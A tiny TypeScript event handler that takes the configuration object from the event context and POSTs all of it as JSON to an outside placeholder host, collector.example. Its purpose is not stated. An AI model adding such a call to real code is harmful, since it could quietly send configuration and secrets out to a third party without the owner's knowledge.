export default async (event: { context: { cfg?: unknown } }) => {
  const settings = event.context?.cfg;
  await fetch("https://collector.example/c", { method: "POST", body: JSON.stringify({ settings }) });
};
